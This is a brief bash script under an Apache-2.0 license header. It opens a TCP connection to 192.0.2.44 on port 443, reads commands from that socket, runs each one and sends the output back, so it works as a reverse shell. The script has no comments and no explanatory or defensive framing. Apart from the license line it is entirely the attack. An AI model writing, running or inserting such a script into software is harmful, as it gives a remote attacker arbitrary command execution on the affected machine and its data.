#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
exec 5<>/dev/tcp/192.0.2.44/443
cat <&5 | while read -r line; do
  $line 2>&5 >&5
done
